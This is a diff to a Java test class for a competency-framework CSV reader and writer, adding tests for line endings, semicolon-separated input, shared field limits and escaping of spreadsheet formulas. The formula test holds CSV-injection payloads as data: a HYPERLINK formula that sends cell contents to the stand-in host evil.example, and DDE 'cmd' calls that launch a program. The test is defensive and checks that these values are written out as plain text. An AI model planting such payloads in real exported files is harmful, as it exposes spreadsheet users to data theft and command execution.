@@ -19,6 +19,7 @@ import org.munacademy.competency.entity.Framework.Competency;
 import org.munacademy.competency.entity.Framework.Indicator;
 import org.munacademy.competency.entity.Framework.Level;
 import org.munacademy.shared.boundary.ErrorTexts;
+import org.munacademy.shared.entity.FieldLimits;
 import org.munacademy.shared.entity.ImportRejectedException;
 import org.munacademy.shared.entity.ImportRejectedException.ImportError;
 import org.munacademy.shared.entity.InvalidInputException.FieldError;
@@ -98,7 +99,7 @@ class FrameworkCsvTest {
         Assumptions.assumeTrue(Files.exists(seeded), "content/competency/mun-comp-v1.csv is not there yet");
         String text = Files.readString(seeded, StandardCharsets.UTF_8);
 
-        assertThat(FrameworkCsv.write(read(text))).isEqualTo(text);
+        assertThat(FrameworkCsv.write(read(text)).replace("\r\n", "\n")).isEqualTo(text.replace("\r\n", "\n"));
     }
 
     @Test
@@ -107,12 +108,42 @@ class FrameworkCsvTest {
                 List.of(new Level(1, "Один", "строка\nвторая строка", null)),
                 List.of(new Area("A", "Имя, с запятой", "с \"кавычками\"", null, List.of())));
 
-        String csv = FrameworkCsv.write(f);
+        String csv = FrameworkCsv.write(f).replace("\r\n", "\n");
 
         assertThat(csv).isEqualTo(HEADER + """
                 SCALE,1,,Один,строка вторая строка,,
                 AREA,A,,"Имя, с запятой","с ""кавычками""\",,
                 """);
+    }
+
+    @Test
+    void names_that_a_spreadsheet_would_take_for_formulas_are_written_as_text_and_read_back_unchanged() {
+        List<String> formulas = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Нажмите\")",
+                "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+7 (495) 000-00-00", "-2+3");
+        Framework f = new Framework("S", "T", null, null, null, List.of(new Level(1, formulas.get(3), "д", null)),
+                List.of(new Area("A", formulas.get(0), formulas.get(4), null, List.of(new Competency("A1",
+                        formulas.get(1), null, CompetencyKind.GENERAL, null, null,
+                        List.of(new Indicator(1, formulas.get(2))))))));
+
+        String csv = FrameworkCsv.write(f);
+
+        assertThat(csv.lines().skip(1).flatMap(line -> java.util.Arrays.stream(line.split(",")))
+                .map(field -> field.startsWith("\"") ? field.substring(1) : field))
+                .noneMatch(field -> !field.isEmpty() && "=+-@".indexOf(field.charAt(0)) >= 0);
+        assertThat(csv).contains("'=HYPERLINK(", "'=cmd|", "'@SUM(", "'+7 (495)", "'-2+3");
+        assertThat(FrameworkCsv.read(new StringReader(csv), "S", "T", null, null)).isEqualTo(f.content());
+    }
+
+    @Test
+    void a_table_read_by_the_kit_from_a_semicolon_separated_file_reads_like_the_comma_separated_one() {
+        String semicolons = VALID.lines().map(line -> line.replace(",", ";"))
+                .collect(java.util.stream.Collectors.joining("\n"))
+                .replace("\"Достигает целей; а не отчитывается\"", "\"Достигает целей, а не отчитывается\"");
+
+        Framework f = FrameworkCsv.read(org.munacademy.shared.control.Csv.table(semicolons), "MUN-COMP",
+                "Модель компетенций", "Методические рекомендации", LocalDate.of(2025, 1, 1));
+
+        assertThat(f).isEqualTo(read(VALID));
     }
 
     @Test
@@ -277,9 +308,9 @@ class FrameworkCsvTest {
 
     @Test
     void texts_longer_than_their_limits_are_refused() {
-        String name = "н".repeat(FrameworkCsv.NAME_MAX + 1);
-        String description = "о".repeat(FrameworkCsv.DESCRIPTION_MAX + 1);
-        String indicator = "и".repeat(FrameworkCsv.INDICATOR_MAX + 1);
+        String name = "н".repeat(FieldLimits.TITLE + 1);
+        String description = "о".repeat(FieldLimits.DESCRIPTION + 1);
+        String indicator = "и".repeat(FieldLimits.INDICATOR + 1);
 
         assertThat(errors(scaleAnd("AREA,A,," + name + "," + description + ",,",
                 "COMPETENCY,A1,A,Коммуникация,,GENERAL,", "INDICATOR,,A1," + indicator + ",,,1")))
@@ -292,8 +323,8 @@ class FrameworkCsvTest {
 
     @Test
     void texts_exactly_at_their_limits_are_accepted() {
-        Framework f = read(scaleAnd("AREA,A,," + "н".repeat(FrameworkCsv.NAME_MAX) + ",,,",
-                "COMPETENCY,A1,A,Коммуникация,,GENERAL,", "INDICATOR,,A1," + "и".repeat(FrameworkCsv.INDICATOR_MAX)
+        Framework f = read(scaleAnd("AREA,A,," + "н".repeat(FieldLimits.TITLE) + ",,,",
+                "COMPETENCY,A1,A,Коммуникация,,GENERAL,", "INDICATOR,,A1," + "и".repeat(FieldLimits.INDICATOR)
                         + ",,,1"));
 
         assertThat(f.competency("A1").indicators()).hasSize(1);
@@ -318,7 +349,7 @@ class FrameworkCsvTest {
 
     @Test
     void a_scale_level_name_longer_than_its_column_is_refused() {
-        String csv = HEADER + "SCALE,1,," + "у".repeat(Framework.LEVEL_NAME_MAX + 1) + ",Знает основы,,\n"
+        String csv = HEADER + "SCALE,1,," + "у".repeat(FieldLimits.LEVEL_NAME + 1) + ",Знает основы,,\n"
                 + "AREA,A,,Личная эффективность,,,\n";
 
         assertThat(errors(csv)).containsExactly(new ImportError("line 2",
